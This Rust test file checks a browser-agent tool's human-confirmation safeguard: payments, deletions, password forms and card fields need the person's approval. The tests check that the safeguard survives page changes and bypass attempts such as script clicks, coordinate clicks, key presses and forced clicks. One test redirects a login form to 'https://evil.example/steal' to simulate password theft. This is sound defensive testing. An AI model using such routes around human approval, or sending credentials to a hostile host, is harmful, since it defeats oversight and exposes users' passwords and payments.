//! What goes beyond the page is done once the person has allowed it, in the popup, that one time, and only if the page
//! still is what it was: judged by what the page recorded.

use crate::{
    cases, popup,
    trial::{Trial, contains, on_stage},
    world::Stage,
};
use anyhow::{Result, bail, ensure};
use serde_json::{Value, json};
use std::time::Duration;
use tests::{client::Reply, site::Visit};

cases!(beside: a_person_confirms_what_goes_beyond_the_page);

async fn a_person_confirms_what_goes_beyond_the_page(_: &mut Trial) -> Result<()> {
    on_stage(Stage::attended().await?, "buyer", async |it| {
        popup::open(it).await?;
        let open = json!({ "action": "open", "url": it.visit.page("weighty.html") });
        let (reply, ()) =
            tokio::try_join!(it.agent().call("tabs", open), popup::choose(it, "[aria-label='Allow buyer']"))?;
        it.outline.read(&reply.text);
        reply.text.split(' ').next().unwrap_or_default().clone_into(&mut it.tab);
        // Who waits for nobody's answer is told so; that takes as long as it takes, and the rest goes on beside it.
        let patient = it.another_agent("patient").await?;
        let untouched = it.another_visit();
        let (unanswered, ()) = tokio::try_join!(unanswered(&untouched, &patient), async {
            popup::choose(it, "[aria-label='Allow patient']").await
        })?;
        let unanswered = tokio::spawn(async move { (patient.call("act", unanswered).await, patient) });
        what_is_harmless_is_not_asked_about(it).await?;
        an_answer_is_used_once(it).await?;
        what_changed_since_is_refused(it).await?;
        a_question_ends_with_its_request(it).await?;
        no_way_leads_around_it(it).await?;
        a_form_with_a_password_is_asked_about(it).await?;
        card_data_is_always_asked_about(it).await?;
        let (reply, patient) = unanswered.await?;
        let reply = reply?;
        ensure!(reply.is_error, "nobody answered, but: {}", reply.text);
        contains(&reply, &["error awaiting_person:", "Delete Alice", "Nothing done", "\nnext: "])?;
        ensure!(reply.elapsed > Duration::from_secs(44), "it waited {:?}", reply.elapsed);
        ensure!(untouched.record().is_empty(), "it was done: {:?}", untouched.record());
        patient.close().await?;
        what_was_said_is_written_down(it).await
    })
    .await
}

/// Another agent's tab, and the act that nobody answers.
async fn unanswered(visit: &Visit, patient: &tests::client::Agent) -> Result<Value> {
    let open = json!({ "action": "open", "url": visit.page("weighty.html") });
    let reply = patient.call("tabs", open).await?;
    let mut outline = tests::outline::Outline::default();
    outline.read(&reply.text);
    Ok(json!({ "kind": "click", "ref": outline.find("button", "Delete Alice")?.reference }))
}

async fn what_is_harmless_is_not_asked_about(it: &mut Trial) -> Result<()> {
    it.click("button", "Add to basket").await?;
    let (user, show) = (it.reference("textbox", "User")?, it.reference("button", "Show password")?);
    it.act("fill", json!({ "ref": user, "value": "ada" })).await?;
    it.act("click", json!({ "ref": show })).await?;
    it.clicked(&["plain", "show"]).await
}

async fn an_answer_is_used_once(it: &mut Trial) -> Result<()> {
    let pay = json!({ "kind": "click", "ref": it.reference("button", "Pay €1")? });
    let reply = asked(it, &pay, "Pay €1", "once", async |it| {
        popup::badge(it, "?").await?;
        popup::shows(it, "By its name, it pays for something.").await?;
        // Not only the tab that is open here: the browser was asked to show it.
        let targets = it.browser().targets().await?;
        ensure!(targets.iter().any(|it| it.url.ends_with("/popup/popup.html")), "nothing was shown");
        // A click of a script is nobody's.
        popup::eval(it, "document.querySelector('#questions [aria-label*=\"Pay €1\"]').click()").await?;
        ensure!(!it.visit.record().iter().any(|entry| entry.id == "pay"), "it was paid without a word");
        Ok(())
    })
    .await?;
    contains(&reply, &["ok click", "button \"Pay €1\""])?;
    it.clicked(&["plain", "show", "pay"]).await?;
    let reply = asked(it, &pay, "Pay €1", "refuse", async |_| Ok(())).await?;
    contains(&reply, &["error refused_by_person:", "Nothing done", "\nnext: "])?;
    it.clicked(&["plain", "show", "pay"]).await
}

async fn what_changed_since_is_refused(it: &mut Trial) -> Result<()> {
    for change in [
        // A number is no part of what tells an element from others, but of what was allowed.
        "document.getElementById('pay').textContent = 'Pay €1000'",
        "document.getElementById('pay').replaceWith(document.getElementById('pay').cloneNode(true))",
        "document.getElementById('pay').setAttribute('role', 'link')",
        "location.reload()",
    ] {
        let pay = json!({ "kind": "click", "ref": it.reference("button", "Pay €1")? });
        let reply = asked(it, &pay, "Pay €1", "once", async |it| {
            it.page_eval("weighty.html", &format!("void ({change})")).await.map(drop)
        })
        .await?;
        ensure!(reply.is_error, "it was done although the page changed ({change}): {}", reply.text);
        it.clicked(&["plain", "show", "pay"]).await?;
        it.done("navigate", json!({ "url": it.visit.page("weighty.html"), "tab": it.tab })).await?;
    }
    Ok(())
}

/// A client that takes its call back takes the question with it: no later click on it does anything.
async fn a_question_ends_with_its_request(it: &mut Trial) -> Result<()> {
    let hasty = it.another_agent("hasty").await?;
    let visit = it.another_visit();
    let open = json!({ "action": "open", "url": visit.page("weighty.html") });
    let (reply, ()) =
        tokio::try_join!(hasty.call("tabs", open), popup::choose(it, "[aria-label='Allow hasty']"))?;
    let mut outline = tests::outline::Outline::default();
    outline.read(&reply.text);
    let click = json!({ "kind": "click", "ref": outline.find("button", "Pay €1")?.reference });
    tokio::select! {
        reply = hasty.call("act", click) => bail!("it was not asked about: {}", reply?.text),
        shown = popup::shows(it, "“hasty” wants to: click") => shown?,
    }
    hasty.close().await?;
    popup::lacks(it, "“hasty” wants to").await?;
    ensure!(visit.record().is_empty(), "it was done: {:?}", visit.record());
    Ok(())
}

async fn no_way_leads_around_it(it: &mut Trial) -> Result<()> {
    let place = it.page_eval(
        "weighty.html",
        "(() => { const box = document.getElementById('delete').getBoundingClientRect();
            return [Math.round(box.x + box.width / 2), Math.round(box.y + box.height / 2)]; })()",
    );
    let place = place.await?;
    let before = it.visit.record().len();
    let pay = it.reference("button", "Pay €1")?;
    for (around, words) in [
        (json!({ "kind": "click_at", "x": place[0], "y": place[1], "tab": it.tab }), "Delete Alice"),
        (
            json!({ "kind": "type_at", "x": place[0], "y": place[1], "text": "x", "tab": it.tab }),
            "Delete Alice",
        ),
        (json!({ "kind": "press", "key": "Enter", "ref": pay }), "Pay €1"),
        (json!({ "kind": "press", "key": "Space", "ref": pay }), "Pay €1"),
        (json!({ "kind": "click", "ref": pay, "count": 2, "force": true }), "Pay €1"),
        (json!({ "kind": "click", "ref": pay, "expect": "Pay" }), "Pay €1"),
    ] {
        let reply = asked(it, &around, words, "refuse", async |_| Ok(())).await?;
        contains(&reply, &["error refused_by_person:"])?;
    }
    // What lies over something harmless is not pressed in its stead.
    let under = it.reference("button", "Show more")?;
    it.act_refused("click", json!({ "ref": under, "force": true, "timeout_ms": 1_500 }), "covered").await?;
    ensure!(it.visit.record().len() == before, "something was pressed: {:?}", it.visit.record());
    Ok(())
}

async fn a_form_with_a_password_is_asked_about(it: &mut Trial) -> Result<()> {
    let password = it.reference("textbox", "Password")?;
    let go = json!({ "kind": "click", "ref": it.reference("button", "Log in")? });
    // Without a password it is a form like any other.
    it.done("act", go.clone()).await?;
    it.recorded_value("sent", "login", "").await?;
    it.act("fill", json!({ "ref": password, "value": "correct-horse" })).await?;
    let enter = json!({ "kind": "press", "key": "Enter", "ref": password });
    let reply = asked(it, &enter, "press Enter in", "refuse", async |_| Ok(())).await?;
    contains(&reply, &["error refused_by_person:"])?;
    let typed = json!({ "kind": "type", "text": "!", "ref": password, "submit": true });
    let reply = asked(it, &typed, "type and press Enter in", "refuse", async |_| Ok(())).await?;
    contains(&reply, &["error refused_by_person:"])?;
    let aside = "document.getElementById('login').setAttribute('action', 'https://evil.example/steal')";
    let reply = asked(it, &go, "Log in", "once", async |it| {
        it.page_eval("weighty.html", &format!("void ({aside})")).await.map(drop)
    })
    .await?;
    contains(&reply, &["error changed:", "Nothing done"])?;
    let reply = asked(it, &go, "Log in", "trust", async |it| {
        popup::shows(it, "It sends a form with a password").await?;
        popup::shows(it, "which sends to https://evil.example/steal").await
    })
    .await?;
    ensure!(!reply.is_error, "what was allowed failed: {}", reply.text);
    it.recorded_value("sent", "login", "correct-horse").await?;
    // The person trusts the site now.
    it.act("click", json!({ "ref": it.reference("button", "Delete Alice")? })).await?;
    it.recorded("click", "delete").await.map(drop)
}

async fn card_data_is_always_asked_about(it: &mut Trial) -> Result<()> {
    let card = it.reference("textbox", "Card number")?;
    let fill = json!({ "kind": "fill", "ref": card, "value": "4111 1111" });
    let reply = asked(it, &fill, "Card number", "refuse", async |it| {
        let trust =
            "document.querySelector('#questions [data-answer=trust][aria-label*=\"Card number\"]').hidden";
        ensure!(popup::eval(it, trust).await? == true, "a field for card data can be left unasked");
        Ok(())
    })
    .await?;
    contains(&reply, &["error refused_by_person:"])?;
    let held = it.page_eval("weighty.html", "document.getElementById('card').value").await?;
    ensure!(held == "", "it was filled with {held}");
    let reply = asked(it, &fill, "Card number", "once", async |_| Ok(())).await?;
    contains(&reply, &["ok fill"])
}

async fn what_was_said_is_written_down(it: &mut Trial) -> Result<()> {
    let journal = it.shell(&["journal", "--last", "1000"]).await?;
    for line in [
        "the person: confirm \"buyer\" http://127.0.0.1",
        "the person: refuse the act \"buyer\"",
        "the person: confirm, trust the site \"buyer\"",
        "button \"Pay €1\" · ok · confirmed by the person",
        "· refused_by_person · not confirmed",
        "· awaiting_person · not confirmed",
    ] {
        ensure!(journal.contains(line), "the journal does not say {line:?}:\n{journal}");
    }
    ensure!(!journal.contains("correct-horse") && !journal.contains("4111"), "it has what was typed");
    Ok(())
}

/// Has the agent do something that the person is asked about; something else happens before they answer.
async fn asked(
    it: &mut Trial,
    act: &Value,
    words: &str,
    answer: &str,
    meanwhile: impl AsyncFnOnce(&Trial) -> Result<()>,
) -> Result<Reply> {
    let button =
        format!("#questions [aria-label*={}][aria-label*='buyer'][data-answer={answer}]", json!(words));
    popup::answered(it, act, &button, meanwhile).await
}
